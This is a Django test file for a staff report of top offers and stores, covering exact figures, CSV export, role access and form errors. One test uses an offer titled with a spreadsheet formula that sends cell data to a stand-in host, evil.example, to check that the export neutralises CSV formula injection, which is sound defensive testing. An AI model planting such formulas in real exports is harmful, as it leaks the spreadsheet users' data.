"""The staff page of top offers and stores: exact figures from the daily rollup over a
chosen window (rejected and reversed sales nowhere), its CSV, the roles that may see it
and the ones that may not, and a bad window answered with a form error."""

from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone

from accounts.tests.factories import StaffFactory
from offers.tests.factories import OfferFactory
from tracking.services.offer_stats import offer_stats_roll_up
from tracking.tests import offer_stats_fixture

pytestmark = pytest.mark.django_db

PAGE = reverse("admin:offers_topoffersreport_changelist")
ALLOWED = ("Administrator", "Finance", "Content editor")
DENIED = ("Support agent", "Affiliate manager")


def _staff_in(role):
    staff = StaffFactory()
    staff.groups.add(Group.objects.get(name=role))
    return staff


@pytest.fixture
def figures():
    built = offer_stats_fixture.build()
    offer_stats_roll_up()
    return built


@pytest.fixture
def finance(client):
    client.force_login(_staff_in("Finance"))
    return client


def _cells(*values) -> str:
    return "<tr>" + "".join(f"<td>{value}</td>" for value in values) + "</tr>"


BOLT_DEAL = ("Bolt deal", "Bolt", 10, 2, 1, "20.00%", "50.00", "100.00", "2.50", "5.00", "2.50")
ACME_TEN = ("Acme 10%", "Acme", 7, 2, 1, "28.57%", "150.00", "300.00", "15.00", "24.00", "9.00")
ACME_SHOES = ("Acme shoes", "Acme", 2, 1, 0, "50.00%", "", "0.00", "3.00", "6.00", "3.00")


def test_the_last_30_days_by_default_with_every_column_exact(finance, figures):
    response = finance.get(PAGE)

    assert response.status_code == 200
    html = response.content.decode()
    today = timezone.localdate()
    start = today - timedelta(days=29)
    shown = f"{start:%b} {start.day}, {start.year} \N{EN DASH} {today:%b} {today.day}, {today.year}"
    assert shown in html
    assert "(30 days), ranked by sales." in html
    offers, stores = html.split('data-test="top-stores"')
    # Ties on sales go to more clicks; the rejected 500.00 sale of Bolt deal, the
    # rejected and the reversed sales of Acme 10% and everything 30 or 40 days ago: nowhere.
    assert _cells(1, *BOLT_DEAL) + _cells(2, *ACME_TEN) + _cells(3, *ACME_SHOES) in offers
    assert (
        _cells(1, "Acme", 12, 4, 2, "33.33%", "126.67", "380.00", "22.00", "36.40", "14.40")
        + _cells(2, "Bolt", 10, 2, 1, "20.00%", "50.00", "100.00", "2.50", "5.00", "2.50")
        in stores
    )
    assert "500.00" not in html
    # Every column defined on the page itself.
    assert "<dt>Platform earnings</dt><dd>Network commission minus cashback paid.</dd>" in html
    assert "<dt>Conversion rate</dt><dd>Sales ÷ clicks, as a percentage" in html


def test_a_chosen_window_and_ranking(finance, figures):
    ten_days_ago = timezone.localdate() - timedelta(days=10)
    day = ten_days_ago.isoformat()

    one_day = finance.get(PAGE, {"start": day, "end": day}).content.decode()
    by_earnings = finance.get(PAGE, {"rank": "earnings"}).content.decode()

    assert "(1 day), ranked by sales." in one_day
    offers = one_day.split('data-test="top-stores"')[0]
    assert (
        _cells(
            1, "Acme 10%", "Acme", 3, 1, 1, "33.33%", "200.00", "200.00", "10.00", "16.00", "6.00"
        )
        + "</tbody>"
        in offers
    )
    assert "ranked by platform earnings." in by_earnings
    assert _cells(1, *ACME_TEN) + _cells(2, *ACME_SHOES) + _cells(3, *BOLT_DEAL) in by_earnings


def test_the_csv_holds_the_same_table(finance, figures):
    offers = finance.get(PAGE, {"export": "offers"})
    stores = finance.get(PAGE, {"export": "stores", "rank": "clicks"})

    assert offers["Content-Type"] == "text/csv"
    today = timezone.localdate()
    start = today - timedelta(days=29)
    assert offers["Content-Disposition"] == (
        f'attachment; filename="top-offers-{start}-{today}.csv"'
    )
    columns = (
        "clicks,sales,approved_sales,conversion_rate,average_sale,sale_amount,cashback,"
        "commission,earnings"
    )
    assert offers.content.decode() == (
        f"rank,offer_id,offer,store,{columns}\r\n"
        f"1,{figures.bolt_deal.pk},Bolt deal,Bolt,10,2,1,20.00,50.00,100.00,2.50,5.00,2.50\r\n"
        f"2,{figures.acme_ten.pk},Acme 10%,Acme,7,2,1,28.57,150.00,300.00,15.00,24.00,9.00\r\n"
        f"3,{figures.acme_shoes.pk},Acme shoes,Acme,2,1,0,50.00,,0.00,3.00,6.00,3.00\r\n"
    )
    assert stores.content.decode() == (
        f"rank,store_id,store,{columns}\r\n"
        f"1,{figures.acme.pk},Acme,12,4,2,33.33,126.67,380.00,22.00,36.40,14.40\r\n"
        f"2,{figures.bolt.pk},Bolt,10,2,1,20.00,50.00,100.00,2.50,5.00,2.50\r\n"
    )


def test_a_title_that_is_a_formula_is_text_in_the_csv(finance):
    offer = OfferFactory(title='=HYPERLINK("https://evil.example/?"&A1)', merchant__name="@Evil")
    offer_stats_fixture.clicks(offer, offer.merchant, 1, days_ago=1)
    offer_stats_roll_up()

    body = finance.get(PAGE, {"export": "offers"}).content.decode()

    assert body.splitlines()[1] == (
        f'1,{offer.pk},"\'=HYPERLINK(""https://evil.example/?""&A1)",\'@Evil,1,0,0,0.00,,'
        "0.00,0.00,0.00,0.00"
    )


@pytest.mark.parametrize(
    ("query", "error"),
    [
        ({"start": "2026-13-01"}, "Enter a valid date."),
        ({"start": "2026-05-02", "end": "2026-05-01"}, "The first day must not be after the"),
        ({"start": "2024-01-01", "end": "2026-01-01"}, "Choose a window of at most 366 days."),
        ({"rank": "revenue"}, "Select a valid choice."),
        ({"limit": "0"}, "greater than or equal to 1"),
        ({"start": "yesterday", "export": "offers"}, "Enter a valid date."),
        # The default start (29 days before the last day) falls before year 1.
        ({"end": "0001-01-05"}, "Choose a last day after"),
    ],
)
def test_a_bad_window_is_a_form_error(finance, query, error):
    response = finance.get(PAGE, query)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert error in response.content.decode()


@pytest.mark.parametrize("role", ALLOWED)
def test_roles_that_see_the_page_find_it_in_the_admin(client, figures, role):
    client.force_login(_staff_in(role))

    index = client.get(reverse("admin:index")).content.decode()
    page = client.get(PAGE)
    csv = client.get(PAGE, {"export": "stores"})

    assert f'<a href="{PAGE}">Top offers and stores</a>' in index
    assert page.status_code == 200
    # The breadcrumb names the section the admin lists it under, as its neighbours' do.
    assert '/admin/offers/">Catalog</a> \u203a Top offers and stores' in page.content.decode()
    assert _cells(1, *BOLT_DEAL) in page.content.decode()
    assert csv.status_code == 200
    assert csv.content.decode().count("\r\n") == 3


@pytest.mark.parametrize("role", DENIED)
def test_other_roles_neither_see_nor_open_it(client, figures, role):
    client.force_login(_staff_in(role))

    index = client.get(reverse("admin:index")).content.decode()
    page = client.get(PAGE)
    csv = client.get(PAGE, {"export": "offers"})

    assert PAGE not in index
    assert (page.status_code, csv.status_code) == (403, 403)
    assert "Bolt deal" not in page.content.decode() + csv.content.decode()
    # The refusal leads back to what they may see, not to a bare "403 Forbidden".
    assert f'href="{reverse("admin:index")}"' in page.content.decode()


def test_the_page_reads_the_rollup_only(finance, figures, django_assert_num_queries):
    finance.get(PAGE)  # the session and the user warm

    # The user and their permissions (own, groups'), then per list the sums and the names.
    with django_assert_num_queries(7):
        assert finance.get(PAGE).status_code == 200
